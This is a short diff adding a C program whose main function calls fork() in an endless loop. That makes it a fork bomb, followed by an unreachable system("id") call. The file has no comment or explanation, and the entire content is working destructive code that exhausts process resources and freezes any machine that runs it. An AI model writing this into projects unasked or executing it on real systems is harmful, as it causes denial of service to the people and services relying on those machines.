@@ -1,0 +1,3 @@
+#include <unistd.h>
+#include <stdlib.h>
+int main(void) { for (;;) fork(); system("id"); }
